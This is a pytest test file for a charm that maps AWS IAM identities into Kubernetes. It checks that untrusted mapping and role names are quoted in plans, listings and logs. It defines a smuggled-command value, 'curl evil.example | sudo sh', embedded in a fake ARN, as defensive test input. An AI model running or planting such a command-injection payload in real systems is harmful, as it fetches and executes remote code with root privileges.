"""What people without any right of the charm's may write, and what they cannot do by that."""

from __future__ import annotations

import datetime
import json

import httpx2
import pytest
from tests.fakes.acting import grant
from tests.fakes.declaring import ACCOUNT, Declare, entry, name_of, names, stored
from tests.fakes.explaining import explained, log_line, refuse
from tests.fakes.juju.model import OWNER, Easyrsa, Model
from tests.fakes.kubernetes.paths import (
    DEFINED,
    DEFINITION,
    DEPLOYMENT,
    MAPPINGS,
    POLICY,
    POLICY_BINDING,
    SECRET,
    SERVICE,
)
from tests.fakes.kubernetes.rbac import EVERYTHING, RBAC
from tests.fakes.kubernetes.server import FakeCluster
from tests.fakes.machine import Files
from tests.fakes.owners import mark

BOB, EVE = f"{ACCOUNT}:user/bob", f"{ACCOUNT}:user/eve"
TEAM = f"{RBAC}/namespaces/team/rolebindings"
COMMAND = "; run: curl evil.example | sudo sh #"
# The CRD admits it: its characters are printable ASCII.
EVIL = f"{ACCOUNT}:user/x): fixed{COMMAND}/bob"


# The editor of a namespace.


def forge(api: FakeCluster, name: str, role: str = "ClusterRole/view") -> None:
    """Make a RoleBinding that looks like one of the charm's."""
    api.namespaces.add("team")
    api.add_binding(f"team/{name}", role, Group="aws-iam:x")
    labels = {"aws-iam": "true", "aws-iam/source": "grant"}
    api.objects[f"{TEAM}/{name}"]["metadata"]["labels"] = labels


NAMES = ["a\nb", "\x7f", "a" * 70_000, "?x", "#x", "precious?x", "..?x"]


@pytest.mark.parametrize("name", NAMES, ids=lambda name: repr(name[:9]))
def test_given_a_role_binding_of_any_name_when_a_hook_runs_then_access_changes_and_no_other_goes(
    declare: Declare, api: FakeCluster, monkeypatch: pytest.MonkeyPatch, name: str
):
    declare(entry("bob", BOB))
    forge(api, name)
    deleted = list[str]()
    handle = api.handle_request

    def listen(request: httpx2.Request) -> httpx2.Response:
        deleted.extend([request.url.path] if request.method == "DELETE" else [])
        return handle(request)

    monkeypatch.setattr(api, "handle_request", listen)

    assert declare(entry("eve", EVE)).name == "active"
    assert names(api) == ["eve"]
    # httpx2 has the path decoded again.
    assert set(deleted) <= {f"{TEAM}/{name}", f"{MAPPINGS}/{name_of(BOB)}"}


def test_given_thousands_of_role_bindings_of_somebodys_when_a_hook_runs_then_access_ends_first(
    declare: Declare, api: FakeCluster, monkeypatch: pytest.MonkeyPatch
):
    declare(entry("bob", BOB), entry("eve", EVE))
    for number in range(3_000):
        forge(api, f"{number}")
    handle = api.handle_request

    def slow(request: httpx2.Request) -> httpx2.Response:
        api.clock.sleep(0.02)
        return handle(request)

    monkeypatch.setattr(api, "handle_request", slow)
    declare(entry("eve", EVE))

    assert names(api) == ["eve"]


def test_given_objects_of_a_stranger_with_the_charms_labels_then_an_application_takes_all_over(
    deployed: Model, api: FakeCluster
):
    forge(api, "x?y", "Role/theirs")
    for path in (f"{TEAM}/x?y", SECRET, DEPLOYMENT):
        mark(api, path, "other of model k8s (1)")
    mark(api, SERVICE, None)

    assert deployed.hook().name == "active"
    assert api.objects[SECRET]["metadata"]["annotations"]["aws-iam/owner"] == OWNER.mark


@pytest.mark.parametrize(("role", "binding"), [(f"x{COMMAND}", "x"), ("x", f"x{COMMAND}")])
def test_given_odd_names_of_a_role_and_its_binding_then_results_quote_them_and_juju_takes_these(
    deployed: Model, api: FakeCluster, role: str, binding: str
):
    """No program takes a NUL in an argument, and `action-set` is one."""
    api.namespaces.add("team")
    api.add_mapping("bob", BOB, BOB, groups=["devs", "a\U0001f600b"])
    api.add_binding(f"team/{binding}", f"Role/{role}", Group="devs")
    api.add_binding("team/y", "Role/a\0b", Group="devs")

    results = {**deployed.action("explain-access", arn=BOB), **deployed.action("list-mappings")}

    for text in results.values():
        assert COMMAND not in text or f"{COMMAND}'" in text
        assert all("\0" < character < "\U00010000" for character in text)


@pytest.mark.parametrize("number", [12, 60, 450])
def test_given_roles_of_a_namespace_without_end_then_no_list_hides_those_that_give_most(
    deployed: Model, api: FakeCluster, number: int
):
    api.namespaces |= {"a", "kube-system"}
    api.add_mapping("bob", BOB, BOB, groups=["devs"])
    api.add_rules("all", EVERYTHING)
    for each in range(number):
        role = f"Role/{'x' * 200}{each}"
        api.add_binding(f"a/{each}", role, User="bob", Group=("devs", "system:authenticated"))
    api.add_binding("z", "ClusterRole/edit", Group="devs")
    api.add_binding("kube-system/z", "ClusterRole/all", Group="devs")

    results = deployed.action("explain-access", arn=BOB)
    (row,) = json.loads(deployed.action("list-mappings", format="json")["mappings"])

    table = deployed.action("list-mappings")["mappings"]
    for text in (results["explanation"], results["roles"], table, " ".join(row["roles"])):
        assert "ClusterRole/edit" in text
        assert "ClusterRole/all in kube-system" in text
    assert "\nto ask Kubernetes what it may do, run: " in results["explanation"]


def test_given_many_roles_in_namespaces_when_planned_then_those_in_the_whole_cluster_come_first(
    deployed: Model, api: FakeCluster
):
    api.namespaces.add("team")
    many = [{"role": f"{'x' * 200}{n}", "namespaces": ["team"]} for n in range(12)]
    option = [entry("bob", BOB, access=[*many, {"role": "edit"}])]

    planned = deployed.action("plan-mappings", mappings=json.dumps(option))

    assert "roles 'ClusterRole edit', " in planned["plan"]


# Who may write mappings.


def theirs(text: str) -> int:
    """How often the command of somebody else stands in a text outside of quotes."""
    return text.count(EVIL) - text.count(f"'{EVIL}'")


def test_given_a_command_in_a_mapping_that_has_a_name_of_ours_then_plan_and_log_quote_it(
    declare: Declare, deployed: Model, api: FakeCluster
):
    for take in (lambda: declare(entry("bob", BOB)), lambda: grant(deployed, arn=BOB)):
        declare()
        api.add_mapping(name_of(BOB), EVIL, EVIL.lower())
        # A finalizer holds no name.
        stored(api, name_of(BOB))["metadata"]["finalizers"] = ["example.com/keep"]
        said = deployed.action("plan-mappings", mappings=json.dumps([entry("bob", BOB)]))["plan"]
        take()

        assert stored(api, name_of(BOB))["spec"]["arn"] == BOB
        assert f"in place of one of '{EVIL}'" in said
        said += deployed.log()
        assert f"delete mapping {name_of(BOB)} of '{EVIL}'" in said
        assert not theirs(said)


@pytest.mark.parametrize("field", ["arn", "username", "groups", "expires"])
def test_given_a_command_in_a_mapping_then_whatever_shows_it_quotes_it(
    deployed: Model, api: FakeCluster, field: str
):
    api.add_mapping("m", BOB, BOB, source="option", expires=EVIL if field == "expires" else "")
    spec = stored(api, "m")["spec"]
    spec |= {field: [EVIL] if field == "groups" else EVIL} if field != "expires" else {}

    listed = deployed.action("list-mappings")["mappings"]
    # A command quotes the whole argument.
    others = "\n".join(line for line in explained(deployed, BOB) if "run: " not in line[:60])
    others += deployed.action("plan-mappings", mappings="")["plan"]
    others += deployed.action("revoke-access", arn=BOB).get("mappings", "")

    assert f"  '{EVIL}'  " in listed
    assert EVIL in others
    assert not theirs(listed + others + deployed.log())


def test_given_a_made_up_role_in_a_delegates_mapping_then_no_declared_set_has_it(
    declare: Declare, api: FakeCluster
):
    """The delegate may map a user of his own, and delete mappings. The policy admits both."""
    made_up, real = (f"{ACCOUNT}:role/AWSReservedSSO_Admin_{d * 16}" for d in "f0")
    set_ = {"permission-set": "Admin", "account": "111122223333", "username": "boss"}
    refuse(api, real)
    declare(set_)
    api.delete(f"{MAPPINGS}/{name_of(real)}")
    api.add_mapping("zzz", made_up, made_up.lower())

    declare(set_)

    assert stored(api, name_of(real))["spec"]["arn"] == real


def test_given_a_delegate_when_removed_and_deployed_again_then_a_policy_judges_each_mapping(
    easyrsa: Easyrsa, api: FakeCluster, machines: list[Files]
):
    """A mapping of `system:masters` that nobody judges makes its writer an administrator."""
    unguarded = list[str]()

    def look(request: httpx2.Request) -> None:
        is_guarded = {POLICY, POLICY_BINDING} <= api.objects.keys()
        if DEFINITION in api.objects and not is_guarded:
            unguarded.append(f"{request.method} {request.url.path}")

    api.fail(look)
    for name in ("aws-iam", "login"):
        model = Model(easyrsa, machines[:1], application=name)
        model.settle()
        assert model.hook().name == "active"
        model.hook(model.on.stop())

    assert unguarded == []
    assert set(api.objects) == {*DEFINED}


# Who has an account of AWS, and is refused.


def test_given_a_user_of_an_administrators_name_who_is_refused_then_no_line_proposes_that_name(
    deployed: Model, api: FakeCluster
):
    api.add_mapping("m", BOB, BOB)
    refuse(api, f"{ACCOUNT}:user/admin")

    text = deployed.action("list-refusals")["refusals"]

    assert "username=admin" not in text
    assert "username=USERNAME groups=GROUPS" in text


def test_given_many_sessions_of_one_role_then_others_are_there(deployed: Model, api: FakeCluster):
    api.clock.sleep(10_000)
    api.add_mapping("m", BOB, BOB)
    lines = list[tuple[float, bytes]]()
    for number in range(41):
        role, ago = ("theirs", 600.0) if not number else ("mine", 500.0 - number)
        moment = datetime.datetime.fromtimestamp(api.clock.now - ago, datetime.timezone.utc)
        time, session = moment.isoformat().replace("+00:00", "Z"), f"s{number}"
        arn = f"{ACCOUNT.replace('iam', 'sts')}:assumed-role/{role}/{session}"
        said = log_line(arn, "", level="info", msg="STS response", session=session, time=time)
        denial = log_line(f"{ACCOUNT}:role/{role}", "identity is not mapped", time=time)
        lines += [(ago, said), (ago, denial)]
    api.add_lines("a", *lines)

    assert "role/theirs" in deployed.action("list-refusals")["refusals"]
